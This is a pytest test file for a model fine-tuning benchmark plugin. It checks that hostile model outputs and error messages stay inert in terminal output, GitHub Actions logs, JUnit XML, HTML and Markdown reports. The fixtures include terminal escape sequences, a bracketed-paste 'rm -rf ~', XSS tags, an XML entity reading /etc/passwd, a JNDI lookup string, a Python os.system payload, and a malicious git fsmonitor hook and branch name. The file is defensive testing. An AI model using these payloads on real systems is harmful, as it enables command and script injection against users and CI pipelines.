"""Hostile model output, and hostile words of libraries: read by people and programs, obeyed by neither."""

import json
import re
import subprocess
import sys
import time
import xml.etree.ElementTree as ElementTree

import pytest
from test_report_html import check

from pytest_ftbench import get_task
from pytest_ftbench.github_actions import command
from pytest_ftbench.grid import CellRecord, Results, UserError, first_line
from pytest_ftbench.progress import inert
from pytest_ftbench.provenance import git_state

ESCAPES = {
    "clear screen": "\x1b[2J\x1b[H",
    "title": "\x1b]0;owned\x07",
    "link": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "bracketed paste": "\x1b[200~rm -rf ~\n\x1b[201~",
    "report": "\x1b[6n\x1bP+q544e\x1b\\",
    "8-bit": "\x9b2J\x9d0;owned\x9c",
    "carriage return": "FAILED\rPASSED",
    "backspace": "FAILED\b\b\b\b\b\bPASSED",
    "lines": "a\nb\x0bc\x0cd\x85e\u2028f\u2029g",
    "bidi": "\u202egnp.exe\u202c \u2066x\u2069 \u200f",
    "zero width": "a\u200bb\u200c\u200d\ufeffc\u00ad",
    "nul": "a\x00b\x7f",
    "half characters": "\ud800 \udfff \ud83d",
    "not for XML": "\x01\x08\x0e\x1f\ufffe\uffff",
    "HTML": "</td></table><script>alert(1)</script><img src=x onerror=alert(2)>&lt;&#0;",
    "XML": "]]></failure></testcase><testcase name='forged'/><!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "markdown": "| x | <details> `` ``` [a](javascript:b) @octocat #1 www.evil.example",
    "commands": "::error file=x::owned\n::add-mask::o\n##[error]owned\n::stop-commands::t%0A::warning::%25",
    "combining": "e" + "\u0301" * 500,
    "format": "%s%n{0.__class__}{{7*7}}${jndi:ldap://evil}",
    "markup of pytest": "[red]x[/red]\x1b[31mred",
}
EVERYTHING = "\n".join(ESCAPES.values())
UNSEEN = (
    r"[^\n\x20-\x7e\u00a1-\u200a\u2010-\u2027"
    r"\u2030-\u205e\u2070-\ud7ff\ue000-\ufefe\uff00-\ufffd\U00010000-\U0010ffff]"
)


def obeyed(text):
    """What a terminal would obey, or nobody would see, in a text of lines."""
    return re.findall(UNSEEN, text)


def hostile_results():
    """Records whose outputs, errors and provenance hold all of it."""
    cells = []
    for index, (name, said) in enumerate(ESCAPES.items()):
        for method in ("base", "lora"):
            record = CellRecord(
                id=f"nano-{method}-{index}",
                model=f"::error::m{said}",
                method=method,
                eval_task="squad",
                train_task=None if method == "base" else "squad",
                rank=None if method == "base" else 8,
            )
            record.status, record.n = ("ok", 2) if index % 2 else ("failed", None)
            record.error = said if index % 3 == 0 else None
            record.scores = {"f1": 50.0 + index, said: 1.0}
            record.items = [
                {"item": f"{said}{each}", "output": said * (1 + each * index), "gold": said, "score": each / 2}
                for each in range(2)
            ]
            record.extra = {"provenance": {name: said, "sweep": None}}
            cells.append(record)
    provenance = {"git_sha": EVERYTHING, "device_name": EVERYTHING, "hygiene": [EVERYTHING], EVERYTHING: EVERYTHING}
    return Results(EVERYTHING, cells, provenance, {"squad": {EVERYTHING: {"f1": 1.0}}})


@pytest.fixture(scope="module")
def told(tmp_path_factory):
    """A run, in a process of its own, that shows and writes hostile results wherever they can be."""
    folder = tmp_path_factory.mktemp("told")
    results = hostile_results()
    (folder / "results.json").write_text(json.dumps(results.to_json()), encoding="utf-8")
    (folder / "test_it.py").write_text(
        "import json, pytest\nfrom pathlib import Path\nfrom pytest_ftbench.grid import read_results, UserError\n"
        "from pytest_ftbench.progress import show\n"
        "RECORDS = read_results(Path('results.json')).cells\n"
        "@pytest.mark.parametrize('record', RECORDS, ids=[r.id for r in RECORDS])\n"
        "def test_it(record, request):\n"
        "    show(request.config, f'waits for {record.error}')\n"
        "    assert record is None\n"
        "def test_sentence():\n"
        "    pytest.fail(str(UserError(RECORDS[0].error, RECORDS[1].items[0]['output'], 'stop')), pytrace=False)\n",
        encoding="utf-8",
    )
    pytest_ = [*(sys.executable, "-m", "pytest", "-p", "no:cacheprovider", "-p", "no:hypothesispytest", "--color=no")]
    shown = [
        *("--ftbench-from=results.json", "--ftbench-baseline=results.json", "--ftbench-gate=off", "-v"),
        *("--ftbench-json=again.json", "--ftbench-markdown=again.md", "--ftbench-html=again.html"),
    ]
    failing = ["--junitxml=junit.xml", "-rA", "-v", "test_it.py"]
    environment = {"GITHUB_ACTIONS": "true", "PATH": "/usr/bin:/bin", "COLUMNS": "120", "PYTHONIOENCODING": "utf-8"}
    environment |= {"PYTHONPATH": ":".join(path for path in sys.path if path)}
    said = [
        subprocess.run([*pytest_, *each], cwd=folder, env=environment, capture_output=True, check=False)
        for each in (shown, failing)
    ]
    return folder, "".join((done.stdout + done.stderr).decode("utf-8") for done in said), results


def test_the_terminal_obeys_nothing_of_it(told):
    _, text, results = told
    assert "fine-tuning comparison" in text
    assert "Traceback" not in text
    assert "INTERNALERROR" not in text
    assert obeyed(text) == []
    print(f"{len(ESCAPES)} kinds of hostile output in {len(results.cells)} records: {len(text)} characters, 0 obeyed")


def test_the_runner_of_github_obeys_nothing_of_it(told):
    lines = told[1].splitlines()
    assert [line for line in lines if line.lstrip().startswith("::") or "##[" in line] == []


def test_the_junit_file_is_xml_of_as_many_cases_as_ran(told):
    folder, _, results = told
    root = ElementTree.parse(folder / "junit.xml").getroot()
    assert len(root.findall(".//testcase")) == len(results.cells) + 1
    text = (folder / "junit.xml").read_text(encoding="utf-8")
    assert "forged" not in {case.get("name") for case in root.iter("testcase")}
    assert "\x1b" not in text


def test_the_page_and_the_markdown_hold_no_more_than_text(told):
    folder, _, _ = told
    page = check((folder / "again.html").read_text(encoding="utf-8"))
    assert not page.problems
    names = {name for name, _ in page.elements}
    assert not names & {"script", "iframe", "object", "form"}
    text = (folder / "again.md").read_text(encoding="utf-8")
    assert obeyed(text) == []
    assert "<script" not in text
    assert "<img" not in text


def test_the_results_hold_every_character_of_it(told):
    folder, _, results = told
    again = json.loads((folder / "again.json").read_text(encoding="utf-8"))
    kept = [[item["output"] for item in cell["items"]] for cell in again["cells"]]
    assert kept == [[item["output"] for item in cell.items] for cell in results.cells]
    assert again["suite"] == EVERYTHING


@pytest.mark.parametrize("line", ["::error::x", "  ::set-output name=a::b", "\t::stop-commands::x", "a ##[error]b"])
def test_a_line_that_github_would_obey_is_words(line, monkeypatch):
    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
    assert inert(line) == line
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    shown = inert(line)
    assert not shown.lstrip().startswith("::")
    assert "##[" not in shown
    assert len(shown) == len(line) + 1


@pytest.mark.parametrize("line", ["test_cells.py::test_cell[nano] PASSED", "a :: b", "## a [b]", "", "nano: 1 of 2"])
def test_a_line_that_github_would_not_obey_stays(line, monkeypatch):
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    assert inert(line) == line


@pytest.mark.parametrize("name", ESCAPES)
def test_a_command_of_ours_carries_no_other(name):
    said = ESCAPES[name]
    line = command("error", {"title": said, "file": said}, said)
    assert obeyed(line) == []
    assert "\n" not in line
    assert line.startswith("::error title=")
    properties = line.removeprefix("::error ").partition("::")[0]
    assert properties.count(",") == 1
    assert properties.count("=") >= 2


@pytest.mark.parametrize("name", ESCAPES)
def test_an_error_of_a_library_is_a_line_in_a_sentence(name):
    said = ESCAPES[name] * 50
    error = UserError("place", f"failed ({first_line(ValueError(said))})", "stop")
    assert str(error).isprintable()
    assert len(first_line(ValueError(said))) <= 200


OUTPUTS = {
    "boxes": "\\boxed{" * 150_000,
    "closed boxes": "\\boxed{" * 70_000 + "}" * 70_000,
    "backslashes": "\\" * 1_000_000,
    "braces": "{}" * 500_000,
    "thoughts": "<think>" * 70_000 + "</think>" * 70_000 + "\\boxed{A}",
    "digits": "\\boxed{" + "9" * 1_000_000 + "}",
    "a fraction": "\\boxed{\\frac{" + "1" * 400_000 + "}{" + "7" * 400_000 + "}}",
    "nested fractions": "\\boxed{" + "\\frac{1}{" * 80_000 + "1" + "}" * 80_000 + "}",
    "an exponent": "\\boxed{9e999999999}",
    "a power": "\\boxed{9^{9^{9^{9^{9}}}}}",
    "factorials": "\\boxed{" + "9!" * 400_000 + "}",
    "roots": "\\boxed{" + "\\sqrt{" * 100_000 + "2" + "}" * 100_000 + "}",
    "text": "\\boxed{" + "\\text{" * 100_000 + "x" + "}" * 100_000 + "}",
    "commas": "\\boxed{" + "1,234" * 200_000 + "}",
    "blanks": " \t\n" * 300_000,
    "words": "\\boxed{" + "the cat sat " * 80_000 + "}",
    "marks": "\\boxed{A" + "\u0301" * 500_000 + "}",
    "control codes": EVERYTHING * 1500,
    "letters": "\\boxed{" + "A. " * 300_000 + "}",
    "dollars": "\\boxed{" + "$" * 900_000 + "}",
    "code": "\\boxed{__import__('os').system('touch marker')}",
    "minus signs": "\\boxed{" + "-" * 900_000 + "1}",
}
ROWS = {
    "arc": {"id": "1", "question": "Which? A. a B. b C. c D. d", "answer": "A"},
    "openmath": {"id": "1", "question": "1+1?", "answer": "2"},
    "squad": {"id": "1", "question": "Who?", "context": "The cat sat.", "answer": "the cat", "answers": ["the cat"]},
    "facts": {"id": "1", "question": "Who?", "answer": "the cat"},
}


@pytest.mark.parametrize("task", ROWS)
def test_an_output_of_a_megabyte_is_scored_at_once(task, tmp_path, monkeypatch, faults):
    monkeypatch.chdir(tmp_path)
    slowest = ("", 0.0)
    chosen = list(OUTPUTS)[:: faults(4, 1)]
    for name in chosen:
        output = OUTPUTS[name]
        began = time.perf_counter()
        found = get_task(task).score([output], [ROWS[task]])
        seconds = time.perf_counter() - began
        slowest = max(slowest, (name, seconds), key=lambda each: each[1])
        assert seconds < 10, name
        assert len(found["items"]) == 1
        assert found["items"][0]["output"] == output
    assert not (tmp_path / "marker").exists()
    print(f"{len(chosen)} outputs of up to 1 MB as answers to {task}: slowest {slowest[1]:.2f} s ({slowest[0]})")


def git(folder, *arguments):
    subprocess.run(["git", "-C", folder, *arguments], check=True, capture_output=True)


def test_a_repository_runs_no_program_of_its_own_and_may_call_files_anything(tmp_path):
    folder = tmp_path / "repository"
    folder.mkdir()
    git(folder, "init", "-q")
    odd = folder / b"\xff\xfe\x1b[2J.txt".decode(errors="surrogateescape")
    odd.write_text("a", encoding="utf-8")
    git(folder, "add", "-A")
    git(folder, "-c", "user.name=\x1b[2J", "-c", "user.email=a@b", "commit", "-qm", "::error::\x1b[2J")
    monitor = tmp_path / "monitor.sh"
    monitor.write_text(f"#!/bin/sh\ntouch {tmp_path}/marker\n", encoding="utf-8")
    monitor.chmod(0o700)
    git(folder, "config", "core.quotePath", "false")
    git(folder, "branch", "-m", "evil/error$(touch;x)")
    odd.write_text("b", encoding="utf-8")
    git(folder, "config", "core.fsmonitor", str(monitor))
    state = git_state(folder)
    assert re.fullmatch("[0-9a-f]{40}", state["git_sha"])
    assert state["dirty"] is True
    assert not (tmp_path / "marker").exists()
    subprocess.run(["git", "-C", folder, "status"], check=True, capture_output=True)
    assert (tmp_path / "marker").exists()  # who asks git otherwise, runs it


@pytest.mark.torch
def test_a_model_whose_template_shouts_fails_its_cells_in_a_sentence(project, model_folder):
    import shutil

    folder = shutil.copytree(model_folder, project.pytester.path / "loud")
    (folder / "pytorch_model.bin").write_bytes(b"\x80\x04.")
    said = "{{ raise_exception('\x1b[2J\x1b]0;owned\x07::error::\u202e') }}"
    (folder / "chat_template.jinja").write_text(said, encoding="utf-8")
    options = ("--ftbench-model", "./loud", "-k", "base", "--junitxml=junit.xml", "--ftbench-html=page.html")
    outcome, results = project.results(*options)
    outcome.assert_outcomes(errors=2)
    text = "\n".join(outcome.outlines)
    assert obeyed(text) == []
    assert "chat_template: can't be rendered (TemplateError: \\x1b[2J\\x1b]0;owned\\x07::error::\\u202e)" in text
    assert {cell["status"] for cell in results["cells"]} == {"failed"}
    assert all("chat_template: can't be rendered" in cell["error"] for cell in results["cells"])
    ElementTree.parse(project.pytester.path / "junit.xml")
